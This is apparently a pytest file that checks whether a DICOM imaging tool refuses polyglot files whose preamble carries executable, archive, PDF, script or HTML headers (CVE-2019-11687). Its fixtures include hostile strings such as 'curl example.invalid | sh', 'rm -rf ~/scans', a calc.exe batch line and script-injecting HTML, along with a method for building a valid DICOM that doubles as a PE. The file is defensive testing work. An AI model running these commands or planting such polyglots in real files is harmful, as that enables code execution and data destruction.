"""DICOM polyglots: an executable, archive, document or script in the 128-byte preamble."""

from __future__ import annotations

import struct
from pathlib import Path

import numpy as np
import pydicom
import pytest

from ledger.errors import InputError, PolicyError
from ledger.imaging.analyse import analyse
from ledger.imaging.limits import DecodeLimits
from ledger.imaging.preamble import check_preamble

from .data import SECRET, sample


def pe_stub() -> bytes:
    """A DOS header whose e_lfanew points at a PE signature and COFF header, in 128 bytes."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    dos[0x3C:0x40] = struct.pack("<I", 64)
    pe = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 0xF0, 0x22)
    return bytes(dos) + pe + bytes(128 - 64 - len(pe))


def elf_stub() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(104)


POLYGLOTS = {
    "PE": (pe_stub(), "a Windows executable (PE) header"),
    "ELF": (elf_stub(), "an ELF executable header"),
    "Mach-O 32": (b"\xfe\xed\xfa\xce", "a Mach-O executable header"),
    "Mach-O 32 LE": (b"\xce\xfa\xed\xfe", "a Mach-O executable header"),
    "Mach-O 64": (b"\xfe\xed\xfa\xcf", "a Mach-O executable header"),
    "Mach-O 64 LE": (b"\xcf\xfa\xed\xfe", "a Mach-O executable header"),
    "Mach-O fat": (b"\xca\xfe\xba\xbe", "a Mach-O universal binary"),
    "Mach-O fat 64": (b"\xca\xfe\xba\xbf", "a Mach-O universal binary header"),
    "ZIP": (b"PK\x03\x04\x14\x00\x00\x00\x08\x00", "a ZIP archive header"),
    "ZIP empty": (b"PK\x05\x06", "a ZIP archive header"),
    "PDF": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "a PDF header"),
    "PDF later in the preamble": (bytes(40) + b"%PDF-1.4\n", "a PDF header"),
    "shell script": (b"#!/bin/sh\ncurl example.invalid | sh\n", "a script interpreter line"),
    "HTML": (b"<html><script>alert(1)</script>", "an HTML"),
    "OLE2": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "an OLE2 (Microsoft Office) document"),
    "gzip": (b"\x1f\x8b\x08\x00", "a gzip archive header"),
}


def with_preamble(tmp_path: Path, name: str, head: bytes) -> Path:
    data = bytearray(sample(name).read_bytes())
    assert data[128:132] == b"DICM"
    data[0:128] = head.ljust(128, b"\x00")[:128]
    out = tmp_path / f"polyglot-{name}"
    out.write_bytes(bytes(data))
    return out


@pytest.mark.parametrize("kind", sorted(POLYGLOTS))
def test_polyglot_is_refused(tmp_path: Path, kind: str) -> None:
    head, reason = POLYGLOTS[kind]
    path = with_preamble(tmp_path, "MR_small.dcm", head)
    with pytest.raises(PolicyError) as caught:
        analyse(path, secret=SECRET, limits=DecodeLimits())
    assert caught.value.diagnostics().startswith(f"{path}: DICOM preamble carries {reason}")


def test_the_pe_polyglot_is_otherwise_a_valid_dicom_image(tmp_path: Path) -> None:
    path = with_preamble(tmp_path, "CT_small.dcm", pe_stub())
    assert pydicom.dcmread(path).pixel_array.shape == (128, 128)  # what makes it dangerous
    with pytest.raises(PolicyError, match="Windows executable"):
        analyse(path, secret=SECRET, limits=DecodeLimits())


def test_ct_small_tiff_preamble_passes() -> None:
    path = sample("CT_small.dcm")
    assert path.read_bytes()[:4] == b"II*\x00"
    assert analyse(path, secret=SECRET, limits=DecodeLimits()).preamble == "tiff"


def test_zero_preamble_passes(tmp_path: Path) -> None:
    zero = with_preamble(tmp_path, "MR_small.dcm", bytes(128))
    assert analyse(zero, secret=SECRET, limits=DecodeLimits()).preamble == "zero"


NOT_TIFF = "non-zero preamble that is not a TIFF header (CVE-2019-11687)"
# Preambles that announce no known format: refused because they are not a TIFF header.
UNRECOGNISED = {
    "HTML without a script tag": b"<p><b onmouseover=alert(1)>scan</b></p>",
    "HTML event handler": b"\n\n<details open ontoggle='location=\"//example.invalid\"'>",
    "shell text without #!": b"echo hello; curl example.invalid | sh\n",
    "batch file": b"@echo off\r\nstart calc.exe\r\n",
    "a single non-zero byte": bytes(16) + b"\x01",
    "TIFF magic with its IFD inside the header": b"II*\x00\x04\x00\x00\x00",
    "TIFF magic with an odd IFD offset": b"II*\x00\x09\x00\x00\x00",
    "TIFF magic followed by shell text": b"II*\x00\x08\x00\x00\x00\nrm -rf ~/scans\n",
}


@pytest.mark.parametrize("name", sorted(UNRECOGNISED))
def test_unrecognised_preambles_are_refused(name: str) -> None:
    head = UNRECOGNISED[name]
    with pytest.raises(PolicyError) as caught:
        check_preamble("in/x.dcm", head.ljust(128, b"\x00") + b"DICM")
    assert caught.value.diagnostics() == f"in/x.dcm: {NOT_TIFF}"


def test_html_body_onload_is_named(tmp_path: Path) -> None:
    path = with_preamble(tmp_path, "MR_small.dcm", b"<html><body onload=alert(1)>")
    with pytest.raises(PolicyError) as caught:
        analyse(path, secret=SECRET, limits=DecodeLimits())
    assert caught.value.diagnostics() == (
        f"{path}: DICOM preamble carries an HTML document: {NOT_TIFF}"
    )


def test_random_preambles_are_refused() -> None:
    rng = np.random.default_rng(11687)
    for _ in range(200):
        head = rng.integers(0, 256, size=128, dtype=np.uint8).tobytes()
        if head[:4] in (b"II*\x00", b"MM\x00*"):
            continue  # a TIFF header by chance (never with this seed)
        with pytest.raises(PolicyError, match=r"not a TIFF header|preamble carries"):
            check_preamble("r.dcm", head + b"DICM")


def test_big_endian_tiff_header_passes() -> None:
    assert check_preamble("x.dcm", b"MM\x00*\x00\x00\x00\x08" + bytes(120) + b"DICM") == "tiff"


def test_tiff_header_with_binary_ifd_entries_passes() -> None:
    # II, 42, IFD at 8: one entry ImageWidth (256) SHORT 1 = 64, then no next IFD.
    ifd = struct.pack("<HHHIHH", 1, 256, 3, 1, 64, 0) + struct.pack("<I", 0)
    head = b"II*\x00" + struct.pack("<I", 8) + ifd
    assert check_preamble("x.dcm", head.ljust(128, b"\x00") + b"DICM") == "tiff"


def test_check_preamble_needs_the_dicm_prefix() -> None:
    with pytest.raises(InputError, match=r"^not a DICOM file with a preamble$"):
        check_preamble("x.dcm", bytes(128) + b"DICX")
    with pytest.raises(InputError):
        check_preamble("x.dcm", bytes(10))


def test_message_names_the_file() -> None:
    with pytest.raises(PolicyError) as caught:
        check_preamble("scans/a b.dcm", b"MZ" + bytes(126) + b"DICM")
    assert caught.value.diagnostics() == (
        f"scans/a b.dcm: DICOM preamble carries a Windows executable (PE) header: {NOT_TIFF}"
    )
